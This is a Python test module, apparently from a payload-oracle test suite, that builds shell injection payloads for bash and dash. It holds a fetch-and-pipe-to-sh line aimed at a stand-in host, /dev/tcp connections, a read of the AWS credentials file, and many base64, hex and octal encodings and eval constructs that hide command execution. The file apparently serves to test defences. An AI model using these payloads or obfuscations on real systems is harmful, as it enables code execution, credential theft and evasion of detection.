"""Shell text (bash, dash): ways to reach a command. ``⏎`` stands for a line's end."""

from __future__ import annotations

import base64
import re
import shlex

from tests.oracle_payload.grammar import COMMAND, Grammar, Sink, written


def quote(text: str) -> str:
    """Return a text in single quotes, whatever it holds."""
    return "'" + text.replace("'", "'\\''") + "'"


_CODE = "echo>ran"
_STARTS = (
    "sh -c",
    "bash -c",
    "/bin/sh -c",
    "env sh -c",
    "timeout 5 sh -c",
    "nice sh -c",
    "nohup sh -c",
    "busybox sh -c",
    "bash -ec",
)

SINKS = [
    *(Sink("spawn", COMMAND, f"{start} «A»", start) for start in _STARTS),
    Sink("spawn", COMMAND, COMMAND),
    Sink("spawn", COMMAND, "{ curl http://files.example/x|sh;}"),
    Sink("eval", _CODE, "eval «A»", "eval"),
    Sink("eval", _CODE, "builtin eval «A»"),
    Sink("write", "ran", "echo>«A»"),
    Sink("write", "ran", "tee «A» </dev/null"),
    Sink("connect", "127.0.0.1", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{PORT}'"),
    Sink("connect", "127.0.0.1", "exec 3<>/dev/tcp/«A»/{PORT}"),
    Sink("credentials", ".aws/credentials", 'cat "$HOME"/«A»>&2'),
]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


ENCODINGS = {
    "plain": quote,
    "double": lambda text: '"' + text + '"',
    "shlex": shlex.quote,
    "base64": lambda text: f'"$(echo {_b64(text)}|base64 -d)"',
    "here": lambda text: f'"$(base64 -d<<<{_b64(text)})"',
    "escapes": lambda text: "$'" + "".join(f"\\x{ord(c):02x}" for c in text) + "'",
    "octal": lambda text: "$'" + "".join(f"\\{ord(c):03o}" for c in text) + "'",
    "printf": lambda text: "\"$(printf '" + "".join(f"\\{ord(c):03o}" for c in text) + "')\"",
    "reversed": lambda text: f'"$(echo {quote(text[::-1])}|rev)"',
    "hex": lambda text: f'"$(echo {text.encode().hex()}|xxd -r -p)"',
    "pieces": lambda text: "".join(quote(text[at : at + 4]) for at in range(0, len(text), 4)),
    "translated": lambda text: f'"$(echo {quote(text.replace("r", "Q"))}|tr Q r)"',
    "echo": lambda text: f'"$(echo {quote(text)})"',
    "backticks": lambda text: f'"`echo {quote(text)}`"',
}

CONSTRUCTS = [line.replace("⏎", "\n") for line in r"""
«C»
eval «T»
eval "$(echo «T»)"
eval "`echo «T»`"
trap «T» EXIT
trap «T» 0
trap «T» DEBUG;:
trap «T» ERR;false
trap «T» RETURN;f(){ :;};set -T;f
trap «T» USR1;kill -USR1 $$
PROMPT_COMMAND=«T» bash -i </dev/null
shopt -s expand_aliases⏎alias q=«T»⏎q
f(){ «C»;};f
function f { «C»;};f
function f() { «C»;};f
f(){ "$@";};f «F» «A»
f()( «C» );f
x='$('«T»')';: "${x@P}"
x='$('«T»')';echo "${x@P}"
x='a[$('«T»')]';: $((x))
: $((a[$(«C»)]))
x='a[$('«T»')]';let x
x='a[$('«T»')]';((x))
x='a[$('«T»')]';[[ x -eq 0 ]]
x='a[$('«T»')]';declare -i y=x
x='a[$('«T»')]';typeset -i y=$x
x='a[$('«T»')]';test -v "$x"
x='a[$('«T»')]';[[ -v $x ]]
x='a[$('«T»')]';printf -v "$x" 1
x='a[$('«T»')]';read "$x"<<<1
x='a[$('«T»')]';echo ${!x}
x='a[$('«T»')]';y[x]=1
x='a[$('«T»')]';declare "$x=1"
x='a[$('«T»')]';declare -n y=$x;: $y
mapfile -C «T» -c 1 a <<<1
readarray -C «T» -c 1 a <<<1
compgen -C «T»
compgen -F f;f(){ «C»;};f
compgen -W '$('«T»')'
complete -C «T» zz;compgen -C «T»
bash<<<«T»
sh<<<«T»
bash -c «T»
sh -c «T»
bash -c "$(echo «T»)"
bash<<E⏎«C»⏎E
bash<<'E'⏎«C»⏎E
sh<<E⏎«C»⏎E
eval "$(cat<<'E'⏎«C»⏎E⏎)"
. <(echo «T»)
source <(echo «T»)
source /dev/stdin <<<«T»
. /dev/stdin <<'E'⏎«C»⏎E
bash <(echo «T»)
echo «T»|bash
echo «T»|sh
printf %s «T»|sh
cat <<<«T»|sh
echo «T»|tee /dev/null|sh
coproc { «C»;};wait
coproc bash;echo «T»>&${COPROC[1]};eval "exec ${COPROC[1]}>&-";wait
coproc X { sh;};echo «T»>&"${X[1]}";eval "exec ${X[1]}>&-";wait
coproc bash;exec 3>&${COPROC[1]};eval "exec ${COPROC[1]}>&-";echo «T»>&3;exec 3>&-;wait
exec 9> >(bash);p=$!;echo «T»>&9;exec 9>&-;wait $p
echo «T»> >(sh);wait $!
echo «T»|tee >(bash)>/dev/null|cat
case x in x);&y) «C»;;esac
case x in x):;;&*) «C»;;esac
case x in x) c=«T»;&y) eval "$c";;esac
case x in x) c=«T»;;&?) eval "$c";;esac
case x in (x) c=«T»;&(y):;&(z) sh -c "$c";esac
coproc «F» «A»;wait
coproc X { «C»;};wait
command «F» «A»
builtin eval «T»
builtin command «F» «A»
exec «F» «A»
exec -a x «F» «A»
exec -c «F» «A»
(exec «F» «A»)
command eval «T»
command -p «F» «A»
\command «F» «A»
env «F» «A»
nohup «F» «A»
time «F» «A»
! «F» «A»
$(«C»)
: $(«C»)
: `«C»`
x=$(«C»)
x=`«C»`
echo "$(«C»)"
echo "${x:-$(«C»)}"
: ${x:=$(«C»)}
: ${x=$(«C»)}
x=1;: ${x:+$(«C»)}
: ${x:?$(«C»)}
x=1;: ${x/1/$(«C»)}
x=1;: ${x//$(«C»)}
x=1;: ${x#$(«C»)}
x=1;: ${x%$(«C»)}
x=1;: ${x:$(«C»)0}
: <(«C»);wait;sleep .1
: >(«C»);wait;sleep .1
cat <(«C»)
cat < <(«C»)
echo 1 > >(«C»);sleep .1
read x < <(«C»)
mapfile x < <(«C»)
cat <<E⏎$(«C»)⏎E
cat <<<$(«C»)
cat <<<"$(«C»)"
«C» &⏎wait
«C»|cat
true|«C»
«C»&&:
true&&«C»
false||«C»
(«C»)
{ «C»;}
if «C»;then :;fi
if true;then «C»;fi
if false;then :;elif «C»;then :;fi
if false;then :;else «C»;fi
while «C»;do break;done
while true;do «C»;break;done
until «C»;do break;done
until false;do «C»;break;done
for x in 1;do «C»;done
for x in $(«C»);do :;done
for((;;));do «C»;break;done
for((i=$(«C»)0;i<1;i++));do :;done
for x in «T»;do eval "$x";done
select x in 1;do «C»;break;done<<<1
case 1 in *)«C»;;esac
case $(«C») in *);;esac
case 1 in $(«C»));;esac
[ "$(«C»)" ]
[[ $(«C») ]]
test "$(«C»)"
[[ -n `«C»` ]]
(($(«C»)0))
: $(($(«C»)0))
let x="$(«C»)0"
a=($(«C»))
a=([$(«C»)0]=1)
declare x=$(«C»)
export x=$(«C»)
readonly x=$(«C»)
f(){ local x=$(«C»);};f
typeset x="$(«C»)"
x=$(«C») true
x=«T»;$x
x=«T»;eval $x
x=«T»;eval "$x"
x=«T»;bash -c "$x"
x=«T»;bash<<<"$x"
x=«T»;y=x;eval "${!y}"
x=«T»;declare -n y=x;eval "$y"
declare -n y=x;y=«T»;eval "$x"
a=(«T»);eval "${a[0]}"
a=(«T»);eval "${a[@]}"
declare -A a=([k]=«T»);eval "${a[k]}"
a=(«F» «A»);"${a[@]}"
a=(«F» «A»);${a[*]}
set -- «F» «A»;"$@"
set -- «F» «A»;$*
set -- «T»;eval "$1"
set -- «T»;eval $@
read x<<<«T»;eval "$x"
read -r x< <(echo «T»);eval "$x"
printf -v x %s «T»;eval "$x"
printf -v x '%b' «T»;$x
mapfile -t x<<<«T»;eval "${x[0]}"
x=$(echo «T»);eval "$x"
x=`echo «T»`;$x
set -e;«C»
unset x;«C»
:;«C»
:⏎«C»
«C»;exit
exit $(«C»)
f(){ return $(«C»);};f
x=«T»;${x}
x=«T»;f(){ eval "$1";};f "$x"
echo «T»|while read x;do eval "$x";done
echo «T»|{ read x;eval "$x";}
while read -r x;do eval "$x";done<<<«T»
echo «T»|xargs -d\\n -n1 sh -c
echo «T»|xargs -d\\n -I% bash -c %
find . -maxdepth 0 -exec sh -c «T» \;
timeout 5 bash -c «T»
nice sh -c «T»
setsid -w sh -c «T»
env -S 'bash -c' «T»
BASH_ENV=<(echo «T») bash -c :
ENV=<(echo «T») sh -i </dev/null
hash -p /bin/sh q;q -c «T»
type eval>/dev/null;«C»
[ 1 ]&&«C»
[[ 1 ]]&&«C»
((1))&&«C»
if [[ 1 == 1 ]];then «C»;fi
{ «C»;}>/dev/null
«C» 2>&1|cat
exec 3< <(«C»);cat<&3
$'\x65val' «T»
e''val «T»
"eval" «T»
\eval «T»
ev\al «T»
x=ev;${x}al «T»
${x:-eval} «T»
{eval,«T»}
$(echo eval) «T»
`echo eval` «T»
"$(printf eval)" «T»
""".strip().split("\n")]  # fmt: skip

_BASH = re.compile(
    r"\[\[|\(\(|<<<|[<>]\(|\bfunction |coproc|mapfile|readarray|compgen|complete|builtin|declare|typeset|select|printf -v"
    r"|@P|\$'|=\(|\$\{!|\$\{x[:/]|\blet\b|shopt|PROMPT_COMMAND|;;?&|source|hash -p|exec -|DEBUG|ERR|RETURN|test -v|/dev/tcp|\{eval"
)
"""What only bash knows."""
POSIX = [way for way in CONSTRUCTS if not _BASH.search(way)]

GRAMMARS = (
    Grammar("shell", ("bash", "-c"), quote, SINKS, [*CONSTRUCTS, *written("shell")], ENCODINGS),
    Grammar(
        "dash",
        ("dash", "-c"),
        quote,
        [sink for sink in SINKS if not sink.call.startswith(("builtin", "exec 3"))],
        POSIX,
        {name: way for name, way in ENCODINGS.items() if name not in ("here", "escapes", "octal")},
        language="shell",
    ),
)
